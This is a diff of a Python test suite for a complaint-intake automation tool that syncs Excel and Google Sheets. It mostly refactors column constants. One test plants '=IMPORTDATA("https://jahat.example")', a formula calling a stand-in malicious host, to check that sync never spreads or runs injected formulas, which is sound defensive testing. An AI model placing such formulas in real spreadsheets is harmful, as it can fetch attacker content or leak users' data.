@@ -19,11 +19,12 @@ import trustme
 from openpyxl import load_workbook
 
 from automation.cases.cells import Value
-from automation.cases.columns import COORDINATOR, ROBOT, VOLUNTEER, Column
 from automation.cli.compose import jakarta_now
 from automation.cli.logs import start_log
 from automation.config.tables import HEADINGS, JOURNAL, MAILS, REGISTER, REPAIRS, SETTINGS, SOURCES
 from automation.sheets.prepare import INTAKE_COLUMNS, INTAKE_HEADING_ROW as HEAD
+from automation.tables import intake
+from automation.tables.intake import COORDINATOR, ROBOT, VOLUNTEER
 from tests.google_city import City
 from tests.operator_desk import BENDA, TAB, Desk
 from tests.permissions import bound_by_permissions
@@ -52,13 +53,13 @@ NASTY = (
 )
 
 COMPLAINT: dict[str, Value] = {
-    Column.RECEIVED: f"{jakarta_now():%d/%m/%Y}",
-    Column.CHANNEL: "Hotline",
-    Column.NAME: "Ibu Yati",
-    Column.PHONE: "081200001021",
-    Column.ADDRESS: "Gg. Mawar no 4",
-    Column.CATEGORY: "Jalan & Drainase",
-    Column.DESCRIPTION: "Got mampet di depan musala, air naik ke jalan",
+    intake.RECEIVED: f"{jakarta_now():%d/%m/%Y}",
+    intake.CHANNEL: "Hotline",
+    intake.NAME: "Ibu Yati",
+    intake.PHONE: "081200001021",
+    intake.ADDRESS: "Gg. Mawar no 4",
+    intake.CATEGORY: "Jalan & Drainase",
+    intake.DESCRIPTION: "Got mampet di depan musala, air naik ke jalan",
 }
 
 
@@ -120,10 +121,10 @@ def test_a_kendali_without_a_tab_is_said_and_setup_puts_it_back(desk: Desk, caps
     Editor(desk.folder / "Kendali.xlsx").edit(lambda book: book.remove(book[SETTINGS]))
     said = fails(desk, capsys, "sync")
     assert "tab Pengaturan tidak ada. Jalankan setup" in said
-    assert desk.column(Column.TICKET) == [None]
+    assert desk.column(intake.TICKET) == [None]
     assert desk.run("setup") == 0
     assert desk.run("sync") == 0
-    assert desk.column(Column.TICKET)[0].startswith("RR-")
+    assert desk.column(intake.TICKET)[0].startswith("RR-")
 
 
 def test_tabs_of_the_robot_that_somebody_deleted_come_back_by_themselves(desk: Desk) -> None:
@@ -157,7 +158,7 @@ def test_a_kendali_that_can_not_be_one_is_said_before_anything_is_done(
     desk.credentials.write_text(json.dumps({"kendali": kendali}), "utf-8")
     for arguments in (["sync"], ["digest", "harian"], ["run"], ["sync", "--dry-run"]):
         assert words in fails(desk, capsys, *arguments)
-    assert desk.column(Column.TICKET) == [None]
+    assert desk.column(intake.TICKET) == [None]
 
 
 def test_a_damaged_kendali_is_said_and_stays_as_it_is(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
@@ -168,7 +169,7 @@ def test_a_damaged_kendali_is_said_and_stays_as_it_is(desk: Desk, capsys: pytest
     assert desk.run("sync") == 1
     assert "rusak, belum selesai disalin" in capsys.readouterr().err
     assert path.read_bytes() == before
-    assert desk.column(Column.TICKET) == [None]
+    assert desk.column(intake.TICKET) == [None]
 
 
 @pytest.mark.parametrize(
@@ -194,7 +195,7 @@ def test_a_nonsense_link_in_sumber_stops_only_its_own_row(
     said = capsys.readouterr().out
     assert "1 spreadsheet tidak bisa dibaca" in said and "Kecamatan Larangan" in said
     assert "kesalahan di program" not in said
-    assert desk.column(Column.TICKET)[0].startswith("RR-")
+    assert desk.column(intake.TICKET)[0].startswith("RR-")
     assert [row[4] == "Baik" for row in desk.rows("Kendali", SOURCES)[1:]] == [True, False]
 
 
@@ -230,11 +231,11 @@ def assert_harmless(mail: bytes) -> None:
 
 
 def test_whatever_stands_in_a_cell_of_a_local_workbook_is_text_and_stays_where_it_is(desk: Desk) -> None:
-    columns = [column for column in (*VOLUNTEER, *COORDINATOR, Column.TICKET) if column is not Column.KELURAHAN]
+    columns = [column for column in (*VOLUNTEER, *COORDINATOR, intake.TICKET) if column is not intake.KELURAHAN]
     # What XML does not allow stands in a file as its code.
     nasty = [re.sub("[\x00-\x08\x0b-\x1f\ufffe]", lambda mark: f"_x{ord(mark[0]):04X}_", text) for text in NASTY]
     typed = [(column, text) for text in nasty for column in columns]
-    desk.type(*({Column.PHONE: f"0812{n:08}", column: text} for n, (column, text) in enumerate(typed)))
+    desk.type(*({intake.PHONE: f"0812{n:08}", column: text} for n, (column, text) in enumerate(typed)))
     path = desk.folder / f"{BENDA}.xlsx"
     book = load_workbook(path)
     row, column = beside = FIRST, len(INTAKE_COLUMNS)
@@ -266,18 +267,18 @@ def test_whatever_stands_in_a_cell_of_a_google_spreadsheet_is_text_and_stays_whe
     assert city.set_up() == 0
     city.subscribe("ratna@fraksi.example")
     person = city.spreadsheets["Benda"]
-    columns = [Column.NAME, Column.ADDRESS, Column.DESCRIPTION, Column.CATEGORY, Column.PHONE, Column.STATUS]
+    columns = [intake.NAME, intake.ADDRESS, intake.DESCRIPTION, intake.CATEGORY, intake.PHONE, intake.STATUS]
     typed = [(column, text) for text in NASTY for column in columns]
     for number, (column, text) in enumerate(typed):
-        city.type("Benda", TAB, f"#{number}", {**COMPLAINT, Column.PHONE: f"0812{number:08}", column: text})
+        city.type("Benda", TAB, f"#{number}", {**COMPLAINT, intake.PHONE: f"0812{number:08}", column: text})
     head = person.values(TAB)[HEAD]
     person.formula(
-        TAB, FIRST, head.index(Column.DESCRIPTION), '=IMPORTDATA("https://jahat.example")', "got mampet sekali"
+        TAB, FIRST, head.index(intake.DESCRIPTION), '=IMPORTDATA("https://jahat.example")', "got mampet sekali"
     )
     mine = [row[len(ROBOT) :] for row in person.values(TAB)]
     assert city.run("sync") == 0
     assert [row[len(ROBOT) : len(was) + len(ROBOT)] for row, was in zip(person.values(TAB), mine, strict=True)] == mine
-    assert person.formulas(TAB) == [(0, 0), (FIRST, head.index(Column.DESCRIPTION))]  # the first is the status line
+    assert person.formulas(TAB) == [(0, 0), (FIRST, head.index(intake.DESCRIPTION))]  # the first is the status line
     assert person.formulas(JOURNAL) == []
     assert all(not city.kendali.formulas(tab) for tab in HEADINGS)
     rows = person.values(TAB)[FIRST:]
@@ -294,15 +295,15 @@ def test_the_longest_cells_there_can_be_are_read_and_only_shortened_in_mails(
     desk: Desk, google: Google, tmp_path: Path
 ) -> None:
     longest = ("jalan rusak parah " * 2000)[:32767]
-    desk.type({Column.DESCRIPTION: longest, Column.ADDRESS: longest, Column.NAME: longest})
+    desk.type({intake.DESCRIPTION: longest, intake.ADDRESS: longest, intake.NAME: longest})
     assert desk.run("sync") == 0
-    assert all(ticket.startswith("RR-") for ticket in desk.column(Column.TICKET))
-    assert desk.column(Column.DESCRIPTION)[1] == longest
+    assert all(ticket.startswith("RR-") for ticket in desk.column(intake.TICKET))
+    assert desk.column(intake.DESCRIPTION)[1] == longest
     assert max(len(str(value)) for row in desk.rows("Kendali", REGISTER) for value in row) < 1000
     city = City(google, tmp_path, "Benda")
     city.set_up()
     longest = ("jalan rusak parah " * 3000)[:50000]
-    city.type("Benda", TAB, "#1", {**COMPLAINT, Column.DESCRIPTION: longest, Column.ADDRESS: longest})
+    city.type("Benda", TAB, "#1", {**COMPLAINT, intake.DESCRIPTION: longest, intake.ADDRESS: longest})
     assert city.run("sync") == 0
     assert city.tickets("Benda", TAB)["#1"].startswith("RR-")
     assert longest in city.spreadsheets["Benda"].values(TAB)[FIRST]
@@ -312,9 +313,9 @@ def test_the_longest_cells_there_can_be_are_read_and_only_shortened_in_mails(
 
 
 def test_a_tab_of_hundreds_of_rows_is_taken_in_one_cycle(desk: Desk) -> None:
-    desk.type(*({Column.NAME: f"Warga {n}", Column.PHONE: f"0812{n:08}"} for n in range(500)))
+    desk.type(*({intake.NAME: f"Warga {n}", intake.PHONE: f"0812{n:08}"} for n in range(500)))
     assert desk.run("sync") == 0
-    tickets = desk.column(Column.TICKET)
+    tickets = desk.column(intake.TICKET)
     assert len(set(tickets)) == len(tickets) == 501
     assert len(desk.rows("Kendali", REGISTER)) == 502
 
@@ -326,7 +327,7 @@ def test_more_rows_than_one_request_takes_reach_google_in_one_cycle(google: Goog
     head = person.values(TAB)[HEAD]
     sheet = person.sheet(TAB)
     for row in range(FIRST, FIRST + 1100):
-        cells: dict[Any, Value] = {**COMPLAINT, Column.NAME: f"Warga {row}", Column.PHONE: f"0812{row:08}"}
+        cells: dict[Any, Value] = {**COMPLAINT, intake.NAME: f"Warga {row}", intake.PHONE: f"0812{row:08}"}
         sheet.put_row(row, len(ROBOT), tuple(_with(EMPTY, cells.get(heading)) for heading in head[len(ROBOT) :]))
     sheet.grid["rowCount"] = max(sheet.row_count, 1200)
     city.server.requests.clear()
@@ -388,7 +389,7 @@ def test_a_mail_server_that_is_not_there_is_said_by_its_name(
     assert desk.run("digest", "harian") == 1
     said = capsys.readouterr().out
     assert HOST in said and str(port) in said
-    assert desk.column(Column.TICKET)[0].startswith("RR-")
+    assert desk.column(intake.TICKET)[0].startswith("RR-")
 
 
 # Folders ------------------------------------------------------------------------------------------------------------
@@ -399,7 +400,7 @@ def closed_folder(desk: Desk) -> Iterator[Desk]:
     """A city in a folder that may be read and not written."""
     assert desk.run("sync") == 0
     assert desk.run("digest", "harian", "--preview") == 0
-    desk.type({Column.NAME: "Pak Amir", Column.PHONE: "081200001022"})
+    desk.type({intake.NAME: "Pak Amir", intake.PHONE: "081200001022"})
     for lock in desk.folder.glob(".*.kunci"):
         lock.unlink()
     desk.folder.chmod(0o555)
